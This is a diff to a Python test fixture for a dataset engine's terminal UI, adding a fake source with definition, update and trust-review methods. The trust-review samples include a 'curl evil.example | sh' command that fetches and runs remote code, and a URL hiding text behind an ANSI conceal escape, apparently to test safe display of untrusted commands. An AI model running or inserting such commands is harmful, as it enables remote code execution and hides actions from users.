@@ -8,6 +8,7 @@ from pathlib import Path
 from zlib import crc32
 
 import pyarrow as pa
+from msgspec.structs import replace
 
 from odf_engine.coordinator.protocol import (
     Committed,
@@ -23,7 +24,7 @@ from odf_engine.coordinator.protocol import (
     WorkerStatus,
 )
 from odf_engine.errors import InvalidManifest, OdfError
-from odf_tui.state import BlockLine, DatasetRow, Detail
+from odf_tui.state import BlockLine, DatasetRow, Detail, Section
 
 REMARKS = ["fine", "foggy, wind from the west all day and the night before", "a\tb\x1b[31m", None]
 SYSTEM = ("offset", "op", "system_time", "event_time")
@@ -43,6 +44,7 @@ def dataset(name: str, *inputs: str, records: int = 0, **more: object) -> Datase
         "size": records * 37,
         "watermark": "2024-03-10T00:00:00Z" if records else None,
         "last_pulled": "2024-03-11T08:15:00Z" if records else None,
+        "polls": not inputs,
     }
     return DatasetRow(**{**known, **more})  # type: ignore[arg-type]
 
@@ -179,7 +181,8 @@ class FakeSource:
             ("licence", "CC0-1.0"),
             ("about", "Hourly air quality at the stations of Port Haven, a small harbour town"),
         )
-        return Detail(facts, f"id: {row.id}\nname: {row.name}\nkind: Root\n")
+        source = Section("Source", (("fetch", f"file:sources/{row.name}.csv"), ("read", "CSV\nas it comes")))
+        return Detail(facts, (source,), f"id: {row.id}\nname: {row.name}\nkind: Root\n")
 
     def blocks(self, dataset: str, limit: int, before: int | None, text: str) -> list[BlockLine]:
         """Blocks made up from their numbers."""
@@ -218,6 +221,36 @@ class FakeSource:
         row = dataset(path.stem)
         self.rows_.append(row)
         return {row.id: row.name}
+
+    def definition(self, dataset: str) -> str:
+        """Some YAML."""
+        return f"name: {self._row(dataset).name}\n"
+
+    def update(self, dataset: str, path: Path, *, dry_run: bool) -> list[Change]:
+        """Whatever was written replaces the name."""
+        return [Change("SetInfo", (f"-{self.definition(dataset)}", f"+{path.read_text()}"))]
+
+    def standing(self, dataset: str) -> Standing:
+        """Two things to run."""
+        runs = (
+            Execution("reads the address", "http://10.0.0.7/\x1b[8mquiet.csv", "f1620" + "ab" * 32),
+            Execution("pipes the data through", "sh -c 'curl evil.example | sh'", "f1620" + "ab" * 32),
+            *(Execution("runs the query", f"SELECT {number}", "f1620" + "cd" * 32) for number in range(20)),
+        )
+        return Standing("a stranger", runs)
+
+    def trust(self, dataset: str, shown: Standing) -> None:
+        """Notes it."""
+        self._stand(dataset, "trusted")
+
+    def untrust(self, dataset: str) -> bool:
+        """Notes it."""
+        self._stand(dataset, "not trusted")
+        return True
+
+    def _stand(self, dataset: str, standing: str) -> None:
+        at = self.rows_.index(self._row(dataset))
+        self.rows_[at] = replace(self.rows_[at], standing=standing)  # type: ignore[arg-type]
 
     def jobs(self) -> tuple[list[Job], int]:
         """The jobs."""
@@ -299,6 +332,7 @@ class FakeSource:
             "column 'age' has the value 'forty' in row 212, which is no INT",
             hint="correct the file, or declare the column STRING",
             where="sources/clinics.csv:212",
+            excerpt=["212 | 17,Old Town,forty,2024-03-02"],
         )
         failed = self.job(JobState.failed, "port-haven.clinics", error=error)
         self.changed(failed)
